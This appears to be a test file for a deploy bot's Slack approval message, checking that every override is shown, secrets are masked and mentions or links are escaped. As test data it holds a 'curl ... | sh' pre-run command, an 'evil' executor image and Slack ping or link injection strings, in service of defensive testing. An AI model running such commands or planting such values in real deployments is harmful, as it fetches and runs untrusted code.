"""The approval message shows approvers every override the request carries: secrets hidden, long values cut,
nothing able to ping, link or break the layout, and what does not fit counted rather than dropped silently."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from bot.approvals import ApprovalRequest
from bot.render.approval import approval_message
from bot.render.text import SECTION_TEXT

NOW = datetime(2026, 11, 27, 22, 0, tzinfo=UTC)


def shown(wire: dict[str, Any]) -> tuple[list[str], str]:
    """The message's section texts, and all of it as one string."""
    request = ApprovalRequest(
        id="r-0123456789abcdef", stack="acme/web/dev", operation="update", requested_by="U_CARA", channel="C1",
        request={"operation": "update", **wire}, needed=1, expires_at=NOW + timedelta(hours=4),
    )  # fmt: skip
    blocks = approval_message(request, "anyone").block_dicts()
    texts = [b["text"]["text"] for b in blocks if b["type"] == "section"]
    return texts, json.dumps(blocks, ensure_ascii=False)


def test_every_set_and_json_field_is_shown_not_only_the_usual_ones() -> None:
    texts, _ = shown(
        {
            "inheritSettings": True,
            "sourceContext": {"git": {"repoUrl": "https://github.com/evil/web.git", "branch": "refs/heads/main"}},
            "operationContext": {
                "preRunCommands": ["curl https://x.example/run.sh | sh"],
                "environmentVariables": {"REGION": "eu", "DEPLOYBOT_REQUEST_ID": "r-0123456789abcdef"},
                "options": {"skipInstallDependencies": True, "shell": "/bin/zsh", "deleteAfterDestroy": False},
            },
            "executorContext": {"executorImage": {"reference": "evil/executor:latest"}},
            "agentPoolID": "pool-7",
        }
    )
    text = "\n".join(texts)
    assert "branch `refs/heads/main`" in text
    assert "`REGION`=`eu`" in text
    assert "options `skipInstallDependencies`" in text
    assert 'sourceContext.git.repoUrl = "https://github.com/evil/web.git"' in text
    assert 'operationContext.preRunCommands = ["curl https://x.example/run.sh | sh"]' in text
    assert 'operationContext.options.shell = "/bin/zsh"' in text
    assert "operationContext.options.deleteAfterDestroy = false" in text  # a flag turned off is an override too
    assert 'executorContext.executorImage.reference = "evil/executor:latest"' in text
    assert 'agentPoolID = "pool-7"' in text
    assert "DEPLOYBOT_REQUEST_ID" not in text  # the bot's own bookkeeping
    assert "inheritSettings" not in text  # the default


def test_secrets_are_hidden_wherever_they_are() -> None:
    texts, everything = shown(
        {
            "operationContext": {"environmentVariables": {"TOKEN": {"ciphertext": "AAAAcipherAAAA"}}},
            "sourceContext": {"git": {"gitAuth": {"accessToken": {"secret": "ghp_plaintext"}}}},
            "executorContext": {"executorImage": {"credentials": {"password": {"ciphertext": "BBBBcipherBBBB"}}}},
        }
    )
    text = "\n".join(texts)
    assert "`TOKEN`=🔒 hidden" in text
    assert "sourceContext.git.gitAuth.accessToken = 🔒 hidden" in text
    assert "executorContext.executorImage.credentials.password = 🔒 hidden" in text
    for secret in ("AAAAcipherAAAA", "ghp_plaintext", "BBBBcipherBBBB"):
        assert secret not in everything


def test_values_cannot_ping_link_or_escape_their_code() -> None:
    texts, _ = shown(
        {
            "sourceContext": {"git": {"branch": "x`*<!channel>*`", "repoUrl": "<https://evil.example|github.com>"}},
            "operationContext": {
                "environmentVariables": {"NOTE": "a\nb & `c`"},
                "preRunCommands": ["echo ``` <!here>"],
            },
        }
    )
    text = "\n".join(texts)
    assert "<!channel>" not in text
    assert "<!here>" not in text
    assert "<https://evil" not in text
    assert "&lt;!channel&gt;" in text
    assert 'operationContext.environmentVariables.NOTE = "a\\nb &amp; `c`"' in text  # exactly, in the code block
    assert 'sourceContext.git.branch = "x`*&lt;!channel&gt;*`"' in text
    assert "```" not in text.split("```\n", 1)[1].rsplit("\n```", 1)[0]  # the list's block is not closed early


def test_long_values_are_cut_and_many_fields_are_counted_not_dropped() -> None:
    commands = {f"k{n:03}": "x" * 1000 for n in range(300)}
    env = {f"VAR_{n:03}": "v" * 20 for n in range(60)}
    texts, _ = shown({"operationContext": {"environmentVariables": env}, "tag": "t", "vcs": commands})
    assert all(len(text) <= SECTION_TEXT for text in texts)
    text = "\n".join(texts)
    assert "x" * 1000 not in text
    assert "VAR_000" in text
    assert "VAR_059" in text  # beyond the words' budget, still listed
    assert "more fields not shown here" in text


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=300),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=30), inner, max_size=8),
    max_leaves=60,
)


@given(st.dictionaries(st.text(max_size=30), JSON, max_size=10))
def test_any_request_renders_within_slacks_limits(wire: dict[str, Any]) -> None:
    texts, _ = shown(wire)
    for text in texts:
        assert len(text) <= SECTION_TEXT
        assert "<" not in text.replace("<@U_CARA>", "").replace("<!date^", "")
        assert text.count("```") % 2 == 0
